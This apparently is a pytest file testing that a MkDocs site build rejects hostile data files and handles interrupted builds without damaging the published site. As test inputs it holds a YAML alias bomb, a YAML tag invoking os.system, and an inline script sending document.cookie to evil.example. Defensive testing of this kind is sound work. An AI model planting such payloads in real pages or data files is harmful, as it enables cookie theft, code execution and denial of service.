"""Hostile data files and interrupted builds (issue 11): `python -m cove_site.build` (what `make build` runs)
names file and line, stays within time and memory, never prints a traceback, and leaves site/ byte-identical.
A SIGTERM is passed on to the mkdocs child; after a SIGKILL the child stops too and the next build removes
the half-written folder. The safety gate runs in every build and fails it.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from measured import run_measured

from site_helpers import ROOT

YEAR = Path("calls") / "2022.yaml"
ADDRESS_SPACE = 4 << 30  # the build imports MkDocs, Material and Babel: about 1 GB of address space
CEILING_SECONDS = 90  # a failing build stops in on_config, in a few seconds
CEILING_MB = 1000  # peak memory of the build and its mkdocs child (a normal build: about 250 MB)


def tree_digest(folder: Path) -> str:
    """Names and bytes of every file under `folder`: equal digests mean a byte-identical tree."""
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(path.relative_to(folder).as_posix().encode() + b"\0")
        if path.is_file():
            digest.update(hashlib.sha256(path.read_bytes()).digest())
    return digest.hexdigest()


@pytest.fixture
def previous_site(tmp_path) -> Path:
    """A site/ from an earlier build (its content does not matter, only that it stays exactly as it is)."""
    site = tmp_path / "out" / "site"
    (site / "en").mkdir(parents=True)
    (site / "index.html").write_text("<!doctype html><title>previous</title>", encoding="utf-8")
    (site / "en" / "index.html").write_text("previous build", encoding="utf-8")
    return site


def build_command(site: Path) -> list[str]:
    return [sys.executable, "-m", "cove_site.build", "--site-dir", str(site), "--config-file", str(ROOT / "mkdocs.yml")]


def build_env(data: Path) -> dict:
    return {**os.environ, "COVE_DATA_DIR": str(data), "COVE_BROWSER_CHECKER": "false"}


def start_build(site: Path, data: Path, **popen) -> subprocess.Popen:
    return subprocess.Popen(build_command(site), cwd=ROOT, env=build_env(data), **popen)


def run_build(site: Path, data: Path) -> tuple[int, str, float, float]:
    """(exit code, stderr, seconds, peak MB of the build or its mkdocs child, whichever is larger)."""
    work = site.parent.parent / "run"
    work.mkdir(exist_ok=True)
    done = run_measured(build_command(site), work, address_space=ADDRESS_SPACE, cpu_seconds=CEILING_SECONDS * 2,
                        timeout=CEILING_SECONDS * 2, cwd=ROOT, env=build_env(data))
    return done.code, done.err, done.seconds, done.peak_mb


def replace_year(data: Path, text: str) -> None:
    (data / YEAR).write_text(text, encoding="utf-8")


def edit_year(data: Path, old: str, new: str) -> None:
    text = (data / YEAR).read_text(encoding="utf-8")
    assert old in text, old
    (data / YEAR).write_text(text.replace(old, new, 1), encoding="utf-8")


def alias_bomb(data: Path) -> None:
    lines = ["year: 2022", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    replace_year(data, "\n".join(lines) + "\n")


def line_of(data: Path, needle: str) -> int:
    text = (data / YEAR).read_text(encoding="utf-8")
    return text[:text.index(needle)].count("\n") + 1


def schema(data: Path, text: str) -> None:
    (data / "schema" / "call-year.schema.json").write_text(text, encoding="utf-8")


# (id, corruption, expected text in stderr: file:line: message)
ROWS = [
    ("yaml-nested-30000", lambda d: replace_year(d, "year: 2022\nsources: " + "[" * 30_000 + "\n"),
     "calls/2022.yaml:2: nested too deeply: more than 32 levels of lists and mappings"),
    ("alias-bomb-9-to-the-8", alias_bomb, "calls/2022.yaml:1: the input holds more than 200000 values"),
    ("recursive-alias", lambda d: replace_year(d, "year: 2022\nsources: &s {a: *s}\n"),
     "calls/2022.yaml:2: the alias *s refers to a value that contains the alias itself"),
    ("python-tag", lambda d: edit_year(d, "year: 2022", "year: !!python/name:os.system 2022"),
     "calls/2022.yaml:"),
    ("5-mb-string", lambda d: edit_year(d, "      en: One partner applies", "      en: " + "x" * 5_000_000),
     "calls/2022.yaml:1: the file is 50"),
    ("5000-character-fact", lambda d: edit_year(d, "      en: One partner applies", "      en: " + "x" * 5_000),
     lambda d: f"calls/2022.yaml:{line_of(d, 'x' * 5_000)}: application.applicant.en: is 50"),
    ("schema-not-json", lambda d: schema(d, '{\n  "type": \n'), "schema/call-year.schema.json:3: the schema is not valid JSON"),
    ("schema-not-a-schema", lambda d: schema(d, '{"type": "integr"}'),
     "schema/call-year.schema.json:1: the schema is not a valid JSON Schema at type"),
    ("schema-refers-to-itself", lambda d: schema(d, '{"$ref": "#"}'),
     "schema/call-year.schema.json:1: the schema cannot be applied ("),
]


@pytest.mark.parametrize("corrupt, expected", [row[1:] for row in ROWS], ids=[row[0] for row in ROWS])
def test_hostile_data_fails_the_build_with_file_and_line_and_leaves_the_site(data_copy, previous_site, corrupt,
                                                                              expected):
    corrupt(data_copy)
    expected = expected(data_copy) if callable(expected) else expected
    before = tree_digest(previous_site)
    code, stderr, seconds, peak_mb = run_build(previous_site, data_copy)
    assert code != 0
    assert expected in stderr, stderr[-3000:]
    assert "Traceback" not in stderr and "The build failed; site/ was left as it was." in stderr
    assert tree_digest(previous_site) == before
    assert [p.name for p in previous_site.parent.iterdir()] == ["site"]
    assert seconds < CEILING_SECONDS and peak_mb < CEILING_MB, (seconds, peak_mb)


def test_an_inline_script_in_a_page_fails_the_build_through_the_safety_gate(tmp_path, previous_site):
    """The gate runs at the end of every build: a page with a script no template puts there is not published."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs", docs)
    page = docs / "funding.en.md"
    page.write_text(page.read_text(encoding="utf-8") + '\n<script>fetch("https://evil.example/?" + document.cookie)'
                                                          "</script>\n", encoding="utf-8")
    config = tmp_path / "mkdocs.yml"
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    watch = text[text.index("\nwatch:"):text.index("\nnav:")]  # folders of `mkdocs serve`, relative to the config
    config.write_text(text.replace(watch, "").replace("docs_dir: docs", f"docs_dir: {docs}")
                      .replace("custom_dir: overrides", f"custom_dir: {ROOT / 'overrides'}"), encoding="utf-8")
    before = tree_digest(previous_site)
    env = {**os.environ, "COVE_DATA_DIR": str(ROOT / "data"), "COVE_BROWSER_CHECKER": "false"}
    done = subprocess.run([sys.executable, "-m", "cove_site.build", "--site-dir", str(previous_site),
                           "--config-file", str(config)], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=600)
    assert done.returncode != 0
    assert "The safety gate failed" in done.stderr and "inline-script" in done.stderr
    assert "en/funding/index.html" in done.stderr
    assert tree_digest(previous_site) == before


def _child_of(pid: int, timeout: float = 30) -> int:
    """The mkdocs process the build started."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        children = Path(f"/proc/{pid}/task/{pid}/children")
        found = children.read_text().split() if children.exists() else []
        if found:
            return int(found[0])
        time.sleep(0.05)
    pytest.fail("the build started no mkdocs process")


def _gone(pid: int, timeout: float = 20) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
        except FileNotFoundError:
            return True
        if state == "Z":  # exited, waiting to be reaped by init
            return True
        time.sleep(0.1)
    return False


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads children from /proc (Linux)")
def test_sigterm_is_passed_on_and_the_half_built_folder_removed(previous_site):
    before = tree_digest(previous_site)
    build = start_build(previous_site, ROOT / "data", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    child = _child_of(build.pid)
    time.sleep(1)
    build.send_signal(signal.SIGTERM)
    _, stderr = build.communicate(timeout=60)
    assert build.returncode == 128 + signal.SIGTERM
    assert _gone(child), "the mkdocs child still runs"
    assert "The build stopped by SIGTERM; site/ was left as it was." in stderr
    assert tree_digest(previous_site) == before
    assert [p.name for p in previous_site.parent.iterdir()] == ["site"]


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads children from /proc (Linux)")
def test_after_sigkill_the_child_stops_and_the_next_build_removes_its_folder(previous_site, tmp_path):
    before = tree_digest(previous_site)
    build = start_build(previous_site, ROOT / "data", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    child = _child_of(build.pid)
    deadline = time.monotonic() + 60
    while not list(previous_site.parent.glob("site.new-*/*")) and time.monotonic() < deadline:
        time.sleep(0.1)  # until mkdocs has written into its folder
    build.kill()
    build.wait()
    assert _gone(child), "the mkdocs child outlived the killed build"
    assert len(list(previous_site.parent.glob("site.new-*"))) == 1
    empty = tmp_path / "no-data"
    (empty / "calls").mkdir(parents=True)
    code, stderr, _, _ = run_build(previous_site, empty)  # fails fast, after cleaning up
    assert code != 0 and "left by an interrupted build" in stderr
    assert not list(previous_site.parent.glob("site.new-*"))
    assert tree_digest(previous_site) == before
